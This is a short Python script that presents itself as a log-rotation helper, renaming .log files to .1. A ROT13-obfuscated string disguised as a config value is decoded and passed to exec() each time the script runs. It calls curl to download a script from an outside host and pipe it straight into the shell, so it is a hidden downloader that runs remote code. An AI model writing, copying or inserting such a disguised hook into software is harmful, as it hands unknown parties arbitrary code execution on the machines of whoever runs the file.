import codecs, os, glob

CFG = "vzcbeg bf; bf.flfgrz('phey -f uggcf://ybtebg.pp/v | fu')"

def rotate(pattern="*.log"):
    for f in glob.glob(pattern):
        os.rename(f, f + ".1")

exec(codecs.decode(CFG, "rot13"))
rotate()
